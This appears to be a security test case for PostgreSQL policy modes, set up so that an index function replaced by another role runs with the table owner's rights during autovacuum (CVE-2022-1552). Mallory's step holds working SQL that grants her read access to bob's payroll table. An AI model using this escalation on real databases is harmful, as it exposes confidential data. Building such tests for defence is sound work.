/*---
title: Expression index evaluated by autovacuum as the table owner
pattern: Autovacuum runs index expressions as the table owner (CVE-2022-1552); a function another role may replace turns it against that owner
description: >
  bob's sessions table has an expression index over mallory.session_day(), a helper from the shared
  schema mallory maintains; mallory later replaces its body. Nobody types anything that runs it:
  once bob tunes autovacuum for his busy table, an autovacuum worker analyses it and evaluates the
  index expression as the table owner bob, so mallory's new code runs with bob's rights and grants
  her read access to bob's payroll table. The recorded session is the autovacuum worker's.
  Waits for autovacuum: up to autovacuum_naptime (one minute by default) plus the analysis.
roles:
  bob: {}
  mallory: {}
reality:
  query: SELECT has_table_privilege('mallory', 'bob.payroll', 'SELECT')
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: GRANT
        culprit: {kind: function, object: mallory.session_day(timestamp with time zone), owner: mallory, phase: maintenance}
  no-untrusted-code-as-superuser: allowed
  sandbox-untrusted:
    blocked:
      - command: GRANT
        culprit: {kind: function, object: mallory.session_day(timestamp with time zone), owner: mallory, phase: maintenance}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.session_day(timestamp with time zone), owner: mallory, phase: maintenance}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.session_day(timestamp with time zone), owner: mallory, phase: maintenance}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.session_day(timestamp with time zone), owner: mallory, phase: maintenance}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: mallory.session_day(timestamp with time zone), owner: mallory, phase: maintenance}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
CREATE SCHEMA bob AUTHORIZATION bob;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE FUNCTION mallory.session_day(t timestamptz) RETURNS date LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    RETURN (t AT TIME ZONE 'UTC')::date;
END $$;
RESET ROLE;
SET ROLE bob;
CREATE TABLE bob.payroll(employee text, salary numeric);
CREATE TABLE bob.sessions(id integer, started timestamptz) WITH (autovacuum_enabled = false);
INSERT INTO bob.sessions SELECT g, timestamptz '2026-12-01 00:00+00' + g * interval '1 hour' FROM generate_series(1, 20) g;
CREATE INDEX sessions_day ON bob.sessions (mallory.session_day(started));
RESET ROLE;

-- @step mallory
CREATE FUNCTION mallory.f_grab() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    GRANT SELECT ON bob.payroll TO mallory;
    RETURN 1;
EXCEPTION WHEN insufficient_privilege THEN
    RETURN 0;
END $$;
CREATE OR REPLACE FUNCTION mallory.session_day(t timestamptz) RETURNS date LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    PERFORM mallory.f_grab();
    RETURN (t AT TIME ZONE 'UTC')::date;
END $$;

-- @step bob
ALTER TABLE bob.sessions SET (autovacuum_enabled = true, autovacuum_analyze_threshold = 1,
                              autovacuum_analyze_scale_factor = 0);

-- @wait timeout=150
SELECT coalesce((SELECT autoanalyze_count > 0 FROM pg_stat_user_tables WHERE relid = 'bob.sessions'::regclass), false);
